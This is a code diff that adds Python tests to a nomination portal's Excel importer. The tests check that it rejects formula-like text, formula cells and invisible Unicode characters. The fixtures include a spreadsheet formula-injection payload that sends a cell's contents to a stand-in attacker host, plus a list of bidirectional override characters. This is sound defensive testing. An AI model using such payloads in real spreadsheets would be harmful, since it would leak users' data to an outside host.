@@ -6,6 +6,7 @@ import datetime as dt
 import io
 import os
 import zipfile
+from dataclasses import dataclass
 from typing import Any
 from zoneinfo import ZoneInfo
 
@@ -14,9 +15,17 @@ from openpyxl import Workbook, load_workbook
 
 from nominations import excel, fields
 from nominations.excel import ImportFailed, RowError
+from portal import sheets
 from portal.tables import KIND_LABELS, CategoryKind
 
 LABEL = {f.key: f.label for f in fields.FIELDS}
+
+
+@dataclass(frozen=True)
+class Formula:
+    """A formula to put in a cell of a filled template."""
+
+    text: str
 
 
 def _load(data: bytes) -> Any:
@@ -28,13 +37,19 @@ def _headers(ws: Any, row: int) -> list[str]:
 
 
 def _fill(template: bytes, rows: list[dict[str, Any] | None], first_row: int = 4) -> bytes:
-    """Write rows (by field key; None = leave the row empty) into a downloaded template."""
+    """Write rows (by field key; None = leave the row empty) into a downloaded template;
+    text as typed into a cell (“=…” stays text), ``Formula("=…")`` as a formula cell."""
     wb = _load(template)
     ws = wb[excel.SHEET]
     column = {excel._normalise_header(c.value): c.column for c in ws[excel.HEADER_ROW]}
     for offset, row in enumerate(rows):
         for key, value in (row or {}).items():
-            ws.cell(first_row + offset, column[excel._normalise_header(LABEL[key])], value)
+            cell = ws.cell(first_row + offset, column[excel._normalise_header(LABEL[key])])
+            if isinstance(value, Formula):
+                cell.value = value.text
+                assert cell.data_type == "f"
+            else:
+                sheets.write(cell, value)
     out = io.BytesIO()
     wb.save(out)
     return out.getvalue()
@@ -367,6 +382,72 @@ def test_sheet_without_header_is_refused() -> None:
     [error] = _errors(out.getvalue(), "mediator")
     assert (error.row, error.column) == (0, "文件")
     assert "名称" in error.message
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+FORMULA_STARTS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+
+
+def test_text_that_starts_like_a_formula_is_refused_at_its_row_and_column() -> None:
+    template = excel.template_workbook("mediator", "调解员")
+    rows = [
+        {**MEDIATOR, "name": f"调解员{i}", "committee": text}
+        for i, text in enumerate(FORMULA_STARTS)
+    ]
+    rows[0]["name"] = HYPERLINK
+    errors = _errors(_fill(template, rows), "mediator")
+    first = [(e.row, e.column, e.message) for e in errors[:2]]
+    assert first == [
+        (4, "名称", "名称不能以“=”开头（表格软件会把它当作公式），请删除开头的符号。"),
+        (
+            4,
+            "所在调解组织",
+            "所在调解组织不能以“=”开头（表格软件会把它当作公式），请删除开头的符号。",
+        ),
+    ]
+    # Tab and carriage return are trimmed with the other spaces: “=1” is left, and refused.
+    starts = ["=", "=", "+", "-", "@", "=", "="]
+    assert [(e.row, e.column) for e in errors] == [(4, "名称")] + [
+        (row, "所在调解组织") for row in range(4, 10)
+    ]
+    assert [e.message.split("“")[1][0] for e in errors] == starts
+    # A mark of another kind is no formula: a dash inside a name, a list in the deeds.
+    fine = {**MEDIATOR, "name": "阿依古丽-买买提", "deeds": "- 化解纠纷\n- 走访群众"}
+    [parsed] = excel.parse_workbook(_fill(template, [fine]), "mediator")
+    assert parsed["name"] == "阿依古丽-买买提"
+
+
+def test_formula_cells_are_refused_whatever_they_compute() -> None:
+    template = excel.template_workbook("judicial_office", "司法所")
+    rows = [
+        {**UNIT, "name": Formula('=HYPERLINK("http://evil.example","安定区司法所")')},
+        {**UNIT, "name": "乙司法所", "disputes_mediated": Formula("=100+20")},
+    ]
+    assert _errors(_fill(template, rows), "judicial_office") == [
+        RowError(4, "名称", excel.FORMULA_REFUSED),  # and not “请填写名称” as well
+        RowError(5, "排查调处矛盾纠纷（件）", excel.FORMULA_REFUSED),
+    ]
+    assert "不能使用公式" in excel.FORMULA_REFUSED
+
+
+HIDDEN = [
+    *(chr(c) for c in range(0x202A, 0x202F)),  # embeddings and overrides
+    *(chr(c) for c in range(0x2066, 0x206A)),  # isolates
+    *(chr(c) for c in range(0x200B, 0x2010)),  # zero-width, direction marks
+    "\u2060",
+    "\ufeff",
+    "\u061c",
+]
+
+
+@pytest.mark.parametrize("char", HIDDEN, ids=[f"U+{ord(c):04X}" for c in HIDDEN])
+@pytest.mark.parametrize("key", ["name", "township", "address", "contact_name"])
+def test_invisible_characters_in_names_and_places_are_refused(key: str, char: str) -> None:
+    template = excel.template_workbook("judicial_office", "司法所")
+    row = {**UNIT, key: f"{UNIT[key][:2]}{char}{UNIT[key][2:]}"}
+    [error] = _errors(_fill(template, [row]), "judicial_office")
+    assert (error.row, error.column) == (4, LABEL[key])
+    assert f"含有不可见字符（U+{ord(char):04X}）" in error.message
 
 
 def _zip(files: dict[str, bytes]) -> bytes:
